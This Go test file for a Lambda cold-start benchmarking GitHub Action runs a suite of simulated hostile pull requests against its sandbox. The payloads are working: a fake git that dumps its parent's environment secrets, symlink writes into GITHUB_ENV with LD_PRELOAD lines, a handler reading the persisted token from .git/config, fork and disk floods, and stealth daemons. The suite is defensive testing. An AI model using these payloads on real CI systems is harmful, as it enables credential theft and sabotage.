package cli

import (
	"bytes"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"testing"

	"github.com/coldbench/coldbench/pkg/internal/fakegithub"
	"github.com/coldbench/coldbench/pkg/internal/testenv"
	"github.com/coldbench/coldbench/pkg/results"
	"github.com/coldbench/coldbench/pkg/sandbox"
)

// The hostile suite: a pull request that attacks coldbench through the side doors — its build's
// output, its handler's leftovers, the checkout's own files, the shared places of the machine —
// run against the real binary as root, in the action's path with a fake GitHub, with a token and
// AWS keys in coldbench's environment, in the runner's layout (a workspace and file-command files
// owned by another user, world-readable). In every attack the head's init is twice base's: the
// protected run must report that regression, and no process of any sandbox user may outlive it.
// Each attack also runs once against a binary built with the coldbench_testhooks tag and its
// protection turned off (COLDBENCH_TESTHOOK_OFF), where it must be seen to work: a test whose
// attack cannot succeed proves nothing.

// runnerUID is the runner's user, who owns the checkout and the file-command files.
const runnerUID = 1001

var hostileBins struct {
	once          sync.Once
	plain, hooked string
	err           error
}

// hostileBinaries builds coldbench twice: as released, and with the test hooks.
func hostileBinaries(t *testing.T) (plain, hooked string) {
	t.Helper()
	if os.Geteuid() != 0 {
		t.Skip("the hostile suite runs coldbench as root, as the action's container does")
	}
	testenv.Tool(t, "go")
	hostileBins.once.Do(func() {
		dir, err := os.MkdirTemp("", "coldbench-hostile-bin-")
		if err != nil {
			hostileBins.err = err
			return
		}
		_ = os.Chmod(dir, 0o755)
		for _, b := range []struct {
			out  *string
			name string
			tags []string
		}{{&hostileBins.plain, "coldbench", nil}, {&hostileBins.hooked, "coldbench-hooked", []string{"-tags", "coldbench_testhooks"}}} {
			*b.out = filepath.Join(dir, b.name)
			args := append(append([]string{"build"}, b.tags...), "-o", *b.out, "github.com/coldbench/coldbench/cmd/coldbench")
			if out, err := exec.Command("go", args...).CombinedOutput(); err != nil {
				hostileBins.err = fmt.Errorf("go %v: %v\n%s", args, err, out)
				return
			}
		}
	})
	if hostileBins.err != nil {
		t.Fatal(hostileBins.err)
	}
	return hostileBins.plain, hostileBins.hooked
}

// hostileUIDs hands each concurrent run of the suite a range of sandbox users of its own: runs
// given the same COLDBENCH_SANDBOX_UID wait for each other's range, so the suite's tests could
// not run in parallel. Without the variable coldbench finds free ranges itself.
var hostileUIDs = struct {
	sync.Mutex
	busy map[int]bool
}{busy: map[int]bool{}}

// hostileUID is the COLDBENCH_SANDBOX_UID of one run ("" for coldbench's own choice) and the
// func that gives its range back.
func hostileUID() (string, func()) {
	first, err := strconv.Atoi(os.Getenv("COLDBENCH_SANDBOX_UID"))
	if err != nil {
		return "", func() {}
	}
	hostileUIDs.Lock()
	defer hostileUIDs.Unlock()
	k := 1 // the variable's own range is the in-process tests'
	for hostileUIDs.busy[k] {
		k++
	}
	hostileUIDs.busy[k] = true
	return strconv.Itoa(first + k*sandbox.Slots), func() {
		hostileUIDs.Lock()
		defer hostileUIDs.Unlock()
		delete(hostileUIDs.busy, k)
	}
}

// hostileLoop is the shell runtime's loop: it answers every event with $R, the attack's report.
const hostileLoop = `API="http://${AWS_LAMBDA_RUNTIME_API}/2018-06-01/runtime"
while true; do
  HEADERS="$(mktemp)"
  curl -sS -LD "$HEADERS" "$API/invocation/next" >/dev/null
  ID=$(grep -Fi Lambda-Runtime-Aws-Request-Id "$HEADERS" | tr -d '[:space:]' | cut -d: -f2)
  curl -sS -X POST "$API/invocation/$ID/response" -d "{\"r\":\"$R\"}" >/dev/null
done
`

// side is one commit of a hostile repository: fn/bootstrap sleeps before its first /next after
// running prelude (the attack, which reports in R), and files are added beside it.
type side struct {
	sleep, prelude string
	files          map[string]string
	links          map[string]string // committed symbolic links: name to target
}

// hostileRepo makes a checkout in the runner's layout: base and head commits, the checkout owned
// by the runner's user with world-readable files, and actions/checkout's persisted token in
// .git/config. It returns the workspace and the pull request's event file.
func hostileRepo(t *testing.T, base, head side) (dir, event string) {
	t.Helper()
	return hostileRepoIn(t, filepath.Join(testenv.SharedTempDir(t), "workspace"), base, head)
}

// hostileRepoIn is hostileRepo in the directory dir.
func hostileRepoIn(t *testing.T, dir string, base, head side) (string, string) {
	t.Helper()
	testenv.Tool(t, "git")
	testenv.Tool(t, "curl")
	git := func(args ...string) string {
		t.Helper()
		cmd := exec.Command("git", append([]string{"-c", "safe.directory=*"}, args...)...)
		cmd.Dir = dir
		cmd.Env = append(os.Environ(), "GIT_AUTHOR_NAME=t", "GIT_AUTHOR_EMAIL=t@t", "GIT_COMMITTER_NAME=t", "GIT_COMMITTER_EMAIL=t@t")
		out, err := cmd.CombinedOutput()
		if err != nil {
			t.Fatalf("git %v: %v\n%s", args, err, out)
		}
		return strings.TrimSpace(string(out))
	}
	write := func(s side) {
		src := "#!/bin/bash\nset -uo pipefail\nR=\"\"\n" + s.prelude + "\nsleep " + s.sleep + "\n" + hostileLoop
		testenv.Write(t, dir, "fn/bootstrap", src)
		if err := os.Chmod(filepath.Join(dir, "fn", "bootstrap"), 0o755); err != nil {
			t.Fatal(err)
		}
		for name, body := range s.files {
			testenv.Write(t, dir, name, body)
		}
		for name, target := range s.links {
			_ = os.MkdirAll(filepath.Dir(filepath.Join(dir, name)), 0o755)
			if err := os.Symlink(target, filepath.Join(dir, name)); err != nil {
				t.Fatal(err)
			}
		}
	}
	if err := os.MkdirAll(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	git("init", "-q", "-b", "master")
	write(base)
	git("add", "-A")
	git("commit", "-qm", "base")
	baseSHA := git("rev-parse", "HEAD")
	git("checkout", "-q", "-b", "changes")
	write(head)
	git("add", "-A")
	git("commit", "-qm", "head")
	headSHA := git("rev-parse", "HEAD")
	git("config", "http.https://github.com/.extraheader", "AUTHORIZATION: basic "+base64.StdEncoding.EncodeToString([]byte("x-access-token:"+token)))
	chownTree(t, dir, runnerUID)

	tmpl, err := os.ReadFile("testdata/pull_request.json")
	if err != nil {
		t.Fatal(err)
	}
	ev := strings.ReplaceAll(string(tmpl), "ec26c3e57ca3a959ca5aad62de7213c562f8c821", headSHA)
	ev = strings.ReplaceAll(ev, "f95f852bd8fca8fcc58a9a2d6c842781e32a215e", baseSHA)
	event := filepath.Join(t.TempDir(), "event.json")
	testenv.Write(t, filepath.Dir(event), "event.json", ev)
	return dir, event
}

func chownTree(t *testing.T, dir string, uid int) {
	t.Helper()
	err := filepath.Walk(dir, func(p string, _ os.FileInfo, err error) error {
		if err != nil {
			return err
		}
		return os.Lchown(p, uid, uid)
	})
	if err != nil {
		t.Fatal(err)
	}
}

// hostileRun is one run of the real binary's action.
type hostileRun struct {
	code                       int
	stdout, stderr             string
	githubEnv, envFile, stolen string
	res                        *results.Results
}

// actionHostile runs bin's action on the workspace with the protections named in off turned off
// (the hooked binary only), a token and AWS keys in its environment, and the runner's
// file-command files; extraPath goes first on coldbench's PATH.
func actionHostile(t *testing.T, bin, off, workspace, event string, inputs map[string]string, extraPath string) hostileRun {
	return actionHostileIn(t, filepath.Join(t.TempDir(), "file_commands"), bin, off, workspace, event, inputs, extraPath)
}

// actionHostileIn is actionHostile with the runner's file-command files in files.
func actionHostileIn(t *testing.T, files, bin, off, workspace, event string, inputs map[string]string, extraPath string) hostileRun {
	t.Helper()
	uid, releaseUID := hostileUID()
	defer releaseUID()
	return actionHostileAs(t, uid, false, files, bin, off, workspace, event, inputs, extraPath)
}

// actionHostileAs is actionHostileIn with the sandbox's first uid given (COLDBENCH_SANDBOX_UID;
// "" for coldbench's own choice); prOwner leaves the head slot's owner to the event's pull
// request rather than to the tests' COLDBENCH_SLOT_OWNER (main_test.go).
func actionHostileAs(t *testing.T, uid string, prOwner bool, files, bin, off, workspace, event string, inputs map[string]string, extraPath string) hostileRun {
	t.Helper()
	gh := fakegithub.New(t, repository, token)
	home := filepath.Join(t.TempDir(), "github-home")
	for _, d := range []string{files, home} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	githubEnv := filepath.Join(files, "set_env_1")
	for _, f := range []string{"set_env_1", "set_output_1", "step_summary_1"} {
		testenv.Write(t, files, f, "")
	}
	chownTree(t, files, runnerUID)
	chownTree(t, home, runnerUID)
	vars := map[string]string{
		"GITHUB_ACTIONS": "true", "GITHUB_EVENT_NAME": "pull_request", "GITHUB_EVENT_PATH": event,
		"GITHUB_REPOSITORY": repository, "GITHUB_API_URL": gh.APIURL(), "GITHUB_SERVER_URL": "https://github.com",
		"GITHUB_WORKSPACE": workspace, "GITHUB_RUN_ID": "42", "GITHUB_SHA": strings.Repeat("0", 40),
		"GITHUB_ENV": githubEnv, "GITHUB_OUTPUT": filepath.Join(files, "set_output_1"), "GITHUB_STEP_SUMMARY": filepath.Join(files, "step_summary_1"),
		"HOME": home, "INPUT_GITHUB-TOKEN": token, "INPUT_HANDLER": "fn", "INPUT_REFERENCES": "none",
		"INPUT_MAX-TIME": "30s", "INPUT_COMMENT": "always", "INPUT_FAIL-ON-REGRESSION": "true",
		// Full cold starts only: at +100% ten a side settle the verdict, and the four init-only
		// starts a round would be four fifths of the suite's time, checking nothing of the attacks.
		"INPUT_INIT-SAMPLES":     "0",
		"COLDBENCH_TESTHOOK_OFF": off,
	}
	for k, v := range inputs {
		vars["INPUT_"+strings.ToUpper(k)] = v
	}
	if uid != "" {
		vars["COLDBENCH_SANDBOX_UID"] = uid
	}
	var env []string
	for _, kv := range os.Environ() {
		k, v, _ := strings.Cut(kv, "=")
		if _, ok := vars[k]; ok || strings.HasPrefix(k, "INPUT_") || k == "COLDBENCH_SANDBOX_UID" || prOwner && k == "COLDBENCH_SLOT_OWNER" {
			continue
		}
		if k == "PATH" && extraPath != "" {
			kv = "PATH=" + extraPath + ":" + v
		}
		env = append(env, kv)
	}
	for k, v := range vars {
		env = append(env, k+"="+v)
	}
	env = append(env, secrets...)
	cmd := exec.Command(bin, "action")
	cmd.Dir, cmd.Env = workspace, env
	var stdout, stderr bytes.Buffer
	cmd.Stdout, cmd.Stderr = &stdout, &stderr
	err := cmd.Run()
	run := hostileRun{code: cmd.ProcessState.ExitCode(), stdout: stdout.String(), stderr: stderr.String()}
	if err != nil && run.code < 0 {
		t.Fatalf("coldbench action: %v", err)
	}
	b, _ := os.ReadFile(githubEnv)
	run.githubEnv = string(b)
	if res, err := results.ReadFile(filepath.Join(workspace, ".coldbench", "results.json")); err == nil {
		run.res = res
	}
	return run
}

// sandboxProcesses lists the processes of the run's sandbox users still alive (its first uid is
// in the results' limits), and kills them.
func sandboxProcesses(t *testing.T, run hostileRun) []string {
	t.Helper()
	if run.res == nil {
		return nil
	}
	var first int
	if _, err := fmt.Sscanf(run.res.Environment.Limits.Sandbox, "uid %d", &first); err != nil {
		return nil // nothing was sampled: the users are the builds', checked by their own test
	}
	id := sandbox.Identity{UID: first, GID: first, Separate: true}
	var left []string
	for slot := 0; slot < sandbox.Slots; slot++ {
		s := id.Slot(slot)
		for _, pid := range s.Processes() {
			comm, _ := os.ReadFile("/proc/" + strconv.Itoa(pid) + "/cmdline")
			left = append(left, fmt.Sprintf("uid %d pid %d %q", s.UID, pid, bytes.ReplaceAll(comm, []byte{0}, []byte{' '})))
		}
		_, _ = s.KillAll()
	}
	return left
}

// caught asserts the protected run's verdict: the +100% head is a regression, exit 1, and
// nothing of the sandbox's is left running.
func caught(t *testing.T, run hostileRun) {
	t.Helper()
	if left := sandboxProcesses(t, run); len(left) > 0 {
		t.Errorf("processes of the sandbox outlived the run: %v", left)
	}
	if run.res == nil || run.res.Verdict != results.Regression || run.code != ExitRegression {
		verdict := "no results"
		if run.res != nil {
			verdict = string(run.res.Verdict)
		}
		t.Errorf("protected run: verdict %s, exit %d; want the +100%% head caught (regression, exit 1)\nstderr:\n%s", verdict, run.code, tail(run.stderr, 3000))
	}
}

func tail(s string, n int) string {
	if len(s) <= n {
		return s
	}
	return "…" + s[len(s)-n:]
}

// headResponses are what the head's samples answered, decoded.
func headResponses(run hostileRun) []string {
	var out []string
	if run.res == nil {
		return nil
	}
	for _, s := range run.res.SamplesOf("head") {
		var r struct{ R string }
		if json.Unmarshal([]byte(s.Response), &r) == nil && r.R != "" {
			b, err := base64.StdEncoding.DecodeString(r.R)
			if err != nil {
				b = []byte(r.R)
			}
			out = append(out, string(b))
		}
	}
	return out
}

var fastBase = side{sleep: "0.15"}

// quickControl is inputs with a fixed 3 rounds of full cold starts, for a control run whose
// verdict is not what it shows.
func quickControl(inputs map[string]string) map[string]string {
	out := map[string]string{"samples": "3", "init-samples": "0"}
	for k, v := range inputs {
		if k != "samples" && k != "init-samples" {
			out[k] = v
		}
	}
	return out
}

// rootOnly makes a directory only root may enter, for an attack to aim at.
func rootOnly(t *testing.T) string {
	t.Helper()
	d := filepath.Join(t.TempDir(), "root-only")
	if err := os.Mkdir(d, 0o700); err != nil {
		t.Fatal(err)
	}
	return d
}

// The head's own build plants a link where coldbench (root) used to assemble the package, beside
// $ARTIFACTS_DIR, and puts its files in $ARTIFACTS_DIR: root then wrote them where the link
// pointed. Aimed at a root-only directory, at the first directory of coldbench's PATH (a fake git
// that coldbench runs as root when it removes the base worktree, which reads coldbench's secrets
// from its parent), and at the runner's GITHUB_ENV file (lines for every later step of the job).
func TestHostileBuildPlantsALinkBesideArtifactsDir(t *testing.T) {
	t.Parallel() // a range of sandbox users each (hostileUID); the timings are sleeps, 2:1
	plain, hooked := hostileBinaries(t)
	stolen := filepath.Join(t.TempDir(), "stolen")
	fakeGit := "#!/bin/sh\ncat /proc/$PPID/environ > " + stolen + "; chmod 644 " + stolen + "; exec /usr/bin/git \"$@\"\n"
	for _, target := range []string{"root-only", "path", "github-env"} {
		t.Run(target, func(t *testing.T) {
			aim, extraPath, files := rootOnly(t), "", filepath.Join(t.TempDir(), "file_commands")
			planted := "bootstrap"
			switch target {
			case "path":
				extraPath, planted = aim, "git"
			case "github-env":
				aim, planted = files, "set_env_1"
			}
			// The link fails where the protection holds; the build goes on as if nothing happened.
			build := `cp bootstrap "$ARTIFACTS_DIR/" && printf '%b' "$PLANT" > "$ARTIFACTS_DIR/` + planted + `" && chmod 755 "$ARTIFACTS_DIR/` + planted + `"; ln -s "$AIM" "$ARTIFACTS_DIR/../pkg" || true`
			if planted == "bootstrap" {
				build = `cp bootstrap "$ARTIFACTS_DIR/"; ln -s "$AIM" "$ARTIFACTS_DIR/../pkg" || true`
			}
			plant := map[string]string{"git": fakeGit, "set_env_1": "BASH_ENV=/tmp/evil\nLD_PRELOAD=/tmp/evil.so\n"}[planted]
			head := side{sleep: "0.3", files: map[string]string{"coldbench.yml": fmt.Sprintf("build: |\n  export AIM=%q PLANT=%q\n  %s\n", aim, plant, build)}}
			for _, run := range []struct {
				name, bin, off string
			}{{"protected", plain, ""}, {"control", hooked, "saferoot"}} {
				dir, event := hostileRepo(t, fastBase, head)
				_ = os.Remove(stolen)
				_ = os.RemoveAll(files)
				inputs := map[string]string{"samples": "auto"}
				if run.name == "control" { // what the link let root write is what it shows
					inputs = quickControl(nil)
				}
				r := actionHostileIn(t, files, run.bin, run.off, dir, event, inputs, extraPath)
				entries, _ := os.ReadDir(aim)
				b, _ := os.ReadFile(stolen)
				wrote := strings.Contains(r.githubEnv, "BASH_ENV") || target != "github-env" && len(entries) > 0 || len(b) > 0
				t.Logf("%s: exit %d, %d entries in %s, stolen %d bytes, GITHUB_ENV %q", run.name, r.code, len(entries), aim, len(b), r.githubEnv)
				if testing.Verbose() && run.name == "control" {
					t.Log(tail(r.stderr, 1500))
				}
				switch {
				case run.name == "protected" && wrote:
					t.Errorf("root wrote through the build's link: %v; stolen %q; GITHUB_ENV %q", entries, b, r.githubEnv)
				case run.name == "protected":
					caught(t, r)
				case !wrote:
					t.Errorf("control: the attack did not work with the protection off (nothing written in %s)\n%s", aim, tail(r.stderr, 2000))
				case target == "path" && !strings.Contains(string(b), "CANARY"):
					t.Errorf("control: the fake git ran but read no secret: %q", b)
				}
				sandboxProcesses(t, r)
			}
		})
	}
}

// protectedAndControl runs the attack's repository against the released binary (the attack must
// fail and the regression be caught) and against the hooked one with off turned off (the attack
// must work: worked says whether it did). Unless worked reads the control's verdict
// (verdictMatters), the control takes a fixed 3 rounds of full cold starts: the attack is
// what it shows, and the protected run is what must reach the verdict.
func protectedAndControl(t *testing.T, base, head side, inputs map[string]string, off string, verdictMatters bool, worked func(t *testing.T, r hostileRun) bool) {
	t.Helper()
	plain, hooked := hostileBinaries(t)
	dir, event := hostileRepo(t, base, head)
	r := actionHostile(t, plain, "", dir, event, inputs, "")
	if worked(t, r) {
		t.Errorf("the attack worked against the protected run\n%s", tail(r.stderr, 2000))
	}
	caught(t, r)
	dir, event = hostileRepo(t, base, head)
	if !verdictMatters {
		inputs = quickControl(inputs)
	}
	r = actionHostile(t, hooked, off, dir, event, inputs, "")
	if !worked(t, r) {
		t.Errorf("control (%s off): the attack did not work, so this test proves nothing\n%s", off, tail(r.stderr, 2000))
	}
	sandboxProcesses(t, r)
}

// The head's build leaves a daemon (setsid, its own session) that stops every process whose
// environment says it is base's, for a second at a time (one grep a scan: a shell loop over /proc
// missed base's 10 ms starts on a busy machine, and the control proved nothing): base's cold starts slow down, and the
// doubled head passes as an improvement. Base runs as another user than head's build, which can
// neither read its environment nor signal it, and the daemon dies with the build step.
func TestHostileBuildDaemonStopsBase(t *testing.T) {
	t.Parallel() // a range of sandbox users each (hostileUID); the timings are sleeps, 2:1
	daemon := `cp bootstrap "$ARTIFACTS_DIR/"
  setsid sh -c 'while :; do for e in $(grep -lzx AWS_LAMBDA_FUNCTION_NAME=base /proc/[0-9]*/environ 2>/dev/null); do pid=${e#/proc/}; pid=${pid%/environ}; kill -STOP $pid 2>/dev/null && { sleep 1; kill -CONT $pid; } & done; sleep 0.01; done' </dev/null >/dev/null 2>&1 &`
	head := side{sleep: "0.3", files: map[string]string{"coldbench.yml": "build: |\n  " + daemon + "\n"}}
	protectedAndControl(t, fastBase, head, nil, "uids,killuid", true, func(t *testing.T, r hostileRun) bool {
		left := sandboxProcesses(t, r)
		return len(left) > 0 || r.res != nil && r.res.Verdict != results.Regression
	})
}

// The head's handler starts a daemon with an empty environment in a session of its own: nothing
// of Lambda's environment or process group marks it, and where no cgroup holds the sample (a
// default Docker container) it outlived the run. Every process of the variant's user is killed
// after every sample.
func TestHostileHandlerDaemonOutlivesTheRun(t *testing.T) {
	t.Parallel() // a range of sandbox users each (hostileUID); the timings are sleeps, 2:1
	head := side{sleep: "0.3", prelude: `env -i setsid sleep 300 </dev/null >/dev/null 2>&1 &`}
	protectedAndControl(t, fastBase, head, nil, "killuid,cgroup", false, func(t *testing.T, r hostileRun) bool {
		return len(sandboxProcesses(t, r)) > 0
	})
}

// The pull request commits .coldbench/report.md as a link to a file only root may read: root
// overwrote it with the report. The outputs are written as new files; a link in their place is
// removed, never followed.
func TestHostileCommittedReportLink(t *testing.T) {
	t.Parallel() // a range of sandbox users each (hostileUID); the timings are sleeps, 2:1
	secret := filepath.Join(rootOnly(t), "secret")
	testenv.Write(t, filepath.Dir(secret), "secret", "root's own\n")
	head := side{sleep: "0.3", links: map[string]string{".coldbench/report.md": secret, ".coldbench/results.json": secret + ".json"}}
	protectedAndControl(t, fastBase, head, nil, "saferoot", false, func(t *testing.T, r hostileRun) bool {
		b, _ := os.ReadFile(secret)
		_, err := os.Stat(secret + ".json")
		overwritten := string(b) != "root's own\n" || err == nil
		testenv.Write(t, filepath.Dir(secret), "secret", "root's own\n")
		_ = os.Remove(secret + ".json")
		return overwritten
	})
}

// The pull request commits .coldbench/cache/sandbox as a link: with the cache in the checkout
// (the action's old default), root created the sandbox's directories through it and gave them
// to the sandbox's users. The cache is outside the checkout by default, and one inside it that
// the repository tracks is refused.
func TestHostileCommittedCacheLink(t *testing.T) {
	t.Parallel() // a range of sandbox users each (hostileUID); the timings are sleeps, 2:1
	aim := rootOnly(t)
	// A build of its own, so that coldbench prepares the sandbox's cache for the head.
	head := side{sleep: "0.3", links: map[string]string{".coldbench/cache/sandbox": aim},
		files: map[string]string{"coldbench.yml": "build: cp bootstrap \"$ARTIFACTS_DIR/\"\n"}}
	protectedAndControl(t, fastBase, head, nil, "cachedir", false, func(t *testing.T, r hostileRun) bool {
		entries, _ := os.ReadDir(aim)
		for _, e := range entries {
			_ = os.RemoveAll(filepath.Join(aim, e.Name()))
		}
		return len(entries) > 0
	})
	// The workflow asking for a cache in the checkout, where the repository committed one: refused.
	plain, _ := hostileBinaries(t)
	dir, event := hostileRepo(t, fastBase, head)
	r := actionHostile(t, plain, "", dir, event, map[string]string{"cache-dir": ".coldbench/cache"}, "")
	if r.code != ExitBadInput || !strings.Contains(r.stdout+r.stderr, "cache-dir") {
		t.Errorf("cache-dir in the checkout over committed files: exit %d, want 2 and the input named\n%s", r.code, tail(r.stdout+r.stderr, 2000))
	}
	if entries, _ := os.ReadDir(aim); len(entries) > 0 {
		t.Errorf("root wrote through the committed link: %v", entries)
	}
}

// The head's handler reads the checkout's .git/config, where actions/checkout persists the job's
// token (an extraheader). Landlock keeps it out of every tree not granted to the sandbox; where
// the kernel has no Landlock, the runner's directories are closed to other users for the run.
func TestHostileHandlerReadsTheCheckoutsToken(t *testing.T) {
	t.Parallel() // a range of sandbox users each (hostileUID); the timings are sleeps, 2:1
	plain, hooked := hostileBinaries(t)
	b64 := base64.StdEncoding.EncodeToString([]byte("x-access-token:" + token))
	for _, run := range []struct {
		name, bin, off string
		leak           bool
	}{{"landlock", plain, "", false}, {"no landlock: sealed", hooked, "landlock", false}, {"control", hooked, "landlock,seal", true}} {
		t.Run(run.name, func(t *testing.T) {
			// The head knows the workspace's path, as an attacker does (on GitHub: /github/workspace).
			dir := filepath.Join(testenv.SharedTempDir(t), "workspace")
			head := side{sleep: "0.3", prelude: `R=$(cat ` + dir + `/.git/config 2>&1 | base64 -w0)`}
			dir, event := hostileRepoIn(t, dir, fastBase, head)
			var inputs map[string]string
			if run.leak { // the control shows the leak, not a verdict
				inputs = quickControl(nil)
			}
			r := actionHostile(t, run.bin, run.off, dir, event, inputs, "")
			leaked := false
			for _, resp := range headResponses(r) {
				if strings.Contains(resp, b64) {
					leaked = true
				}
			}
			if leaked != run.leak {
				t.Errorf("%s: token read by the handler: %v, want %v; responses %q", run.name, leaked, run.leak, headResponses(r))
			}
			if !run.leak {
				caught(t, r)
			}
			sandboxProcesses(t, r)
		})
	}
}

// The head's handler forks 1,500 processes, writes 100 MB into /var/tmp (past its 512 MB /tmp,
// where nothing bounds it) and a file into /dev/shm: shared places that outlived the run. Its
// user may have Lambda's 1,024 processes and threads, Landlock closes the shared places, and what
// a sandbox user left in them is removed after the run.
func TestHostileHandlerFloodsTheMachine(t *testing.T) {
	t.Parallel() // a range of sandbox users each (hostileUID); the timings are sleeps, 2:1
	testenv.Tool(t, "python3")
	flood := `R=$(python3 -c '
import os, time
n = 0
for i in range(1500):
    try:
        if os.fork() == 0:
            os.close(1); time.sleep(20); os._exit(0)
        n += 1
    except OSError:
        break
print(n)
' 2>/dev/null)
dd if=/dev/zero of=/var/tmp/coldbench-flood-$$ bs=1M count=100 status=none 2>/dev/null && R="$R vartmp"
echo x > /dev/shm/coldbench-flood-$$ 2>/dev/null && R="$R shm"
R=$(printf '%s' "$R" | base64 -w0)`
	head := side{sleep: "0.3", prelude: flood}
	inputs := map[string]string{"samples": "3", "init-samples": "0"}
	check := func(t *testing.T, r hostileRun, wantFlood bool) {
		left, _ := filepath.Glob("/var/tmp/coldbench-flood-*")
		shm, _ := filepath.Glob("/dev/shm/coldbench-flood-*")
		left = append(left, shm...)
		for _, f := range left {
			_ = os.Remove(f)
		}
		procs := 0
		wrote := false
		for _, resp := range headResponses(r) {
			var n int
			fmt.Sscanf(resp, "%d", &n)
			procs = max(procs, n)
			wrote = wrote || strings.Contains(resp, "vartmp") || strings.Contains(resp, "shm")
		}
		t.Logf("forked %d, wrote shared places: %v, left after the run: %v", procs, wrote, left)
		if wantFlood && (procs < 1500 || !wrote || len(left) == 0) {
			t.Errorf("control: forked %d, wrote %v, left %v; want the flood to work with its protections off", procs, wrote, left)
		}
		if !wantFlood && (procs >= 1024 || wrote || len(left) > 0) {
			t.Errorf("forked %d processes (want fewer than 1,024), wrote to a shared place: %v, left there after the run: %v", procs, wrote, left)
		}
	}
	plain, hooked := hostileBinaries(t)
	dir, event := hostileRepo(t, fastBase, head)
	r := actionHostile(t, plain, "", dir, event, inputs, "")
	check(t, r, false)
	if left := sandboxProcesses(t, r); len(left) > 0 {
		t.Errorf("%d processes outlived the run", len(left))
	}
	dir, event = hostileRepo(t, fastBase, head)
	r = actionHostile(t, hooked, "nproc,landlock,leftovers,seal", dir, event, inputs, "")
	check(t, r, true)
	sandboxProcesses(t, r)
}

// Base's own configuration preloads a library from /dev/shm (say, a monitoring agent's shim that
// is sometimes missing); the head's handler puts one there that sleeps in base's processes. The
// variants share no writable place: Landlock keeps the head out of /dev/shm.
func TestHostileSharedPlaceReachesBase(t *testing.T) {
	t.Parallel() // a range of sandbox users each (hostileUID); the timings are sleeps, 2:1
	testenv.Tool(t, "gcc")
	so := filepath.Join(t.TempDir(), "slow.so")
	src := filepath.Join(filepath.Dir(so), "slow.c")
	testenv.Write(t, filepath.Dir(src), "slow.c", `#include <stdlib.h>
#include <string.h>
#include <unistd.h>
__attribute__((constructor)) static void slow(void) {
	const char *f = getenv("AWS_LAMBDA_FUNCTION_NAME");
	if (f && strcmp(f, "base") == 0) usleep(400000);
}
`)
	if out, err := exec.Command("gcc", "-shared", "-fPIC", "-o", so, src).CombinedOutput(); err != nil {
		t.Fatalf("gcc: %v\n%s", err, out)
	}
	lib, err := os.ReadFile(so)
	if err != nil {
		t.Fatal(err)
	}
	name := fmt.Sprintf("/dev/shm/coldbench-shim-%d.so", os.Getpid())
	t.Cleanup(func() { os.Remove(name) })
	base := side{sleep: "0.15", files: map[string]string{"coldbench.yml": "env:\n  LD_PRELOAD: " + name + "\n"}}
	head := side{sleep: "0.3", prelude: `cp "$LAMBDA_TASK_ROOT/shim.so" ` + name + ` 2>/dev/null; chmod 644 ` + name + ` 2>/dev/null`,
		files: map[string]string{"coldbench.yml": "env:\n  LD_PRELOAD: " + name + "\n", "fn/shim.so": string(lib)}}
	protectedAndControl(t, base, head, nil, "landlock,leftovers", true, func(t *testing.T, r hostileRun) bool {
		_ = os.Remove(name)
		return r.res != nil && r.res.Verdict != results.Regression
	})
}

// breakBase is a daemon a head's build leaves behind that survives the kill by uid: its leader
// thread leaves with exit(2), not exit_group(2), so /proc/PID/status says "Z (zombie)" while its
// other thread runs on. Whenever a process of another sandbox user runs (base's samples), it
// posts an init error to every Runtime API on loopback (found in /proc/net/tcp; the network is not
// confined): base's samples fail, and the doubled head passes (exit 0).
const breakBase = `import ctypes, os, threading, time, urllib.request
me = os.getuid()
def other_running():
    for p in os.listdir('/proc'):
        if not p.isdigit():
            continue
        try:
            for line in open('/proc/%s/status' % p):
                if line.startswith('Uid:'):
                    u = int(line.split()[1])
                    if me + 2 <= u < me + 64:
                        return True
                    break
        except (OSError, ValueError):
            pass
    return False
def ports():
    out = []
    for line in open('/proc/thread-self/net/tcp').readlines()[1:]:
        f = line.split()
        if f[3] == '0A' and f[1].startswith('0100007F:'):
            out.append(int(f[1].split(':')[1], 16))
    return out
known = set(ports()) # what listened before the samples (the job's own servers): left alone
def work():
    while True:
        if other_running():
            for port in set(ports()) - known:
                try:
                    req = urllib.request.Request('http://127.0.0.1:%d/2018-06-01/runtime/init/error' % port,
                        data=b'{"errorType":"Base.BrokenByHead","errorMessage":"head was here"}',
                        headers={'Content-Type': 'application/json'})
                    urllib.request.urlopen(req, timeout=0.5).read()
                except Exception:
                    pass
        time.sleep(0.01)
threading.Thread(target=work).start()
time.sleep(0.1)
ctypes.CDLL(None).syscall(60 if os.uname().machine == 'x86_64' else 93, 0)
`

// The head's build leaves breakBase: it outlived the build step's kill by uid (and the run), broke
// base's samples, and the doubled head passed as an improvement with exit 0.
func TestHostileZombieLeaderDaemonBreaksBase(t *testing.T) {
	// Not in parallel: in its control the daemon lives on and posts init errors to every
	// loopback port it sees open, the other tests' emulators and fake GitHub included.
	testenv.Tool(t, "python3")
	build := `cp bootstrap "$ARTIFACTS_DIR/"; setsid /usr/bin/python3 breakbase.py </dev/null >/dev/null 2>&1 &
  while [ -e /proc/$!/status ] && ! grep -q 'State:.Z' /proc/$!/status; do sleep 0.05; done`
	head := side{sleep: "0.3", files: map[string]string{"coldbench.yml": "build: |\n  " + build + "\n", "fn/breakbase.py": breakBase}}
	protectedAndControl(t, fastBase, head, nil, "zombies", true, func(t *testing.T, r hostileRun) bool {
		left := sandboxProcesses(t, r)
		if r.res != nil {
			t.Logf("verdict %s, exit %d, %d process(es) left", r.res.Verdict, r.code, len(left))
		}
		return len(left) > 0 || r.res != nil && r.res.Verdict != results.Regression
	})
}
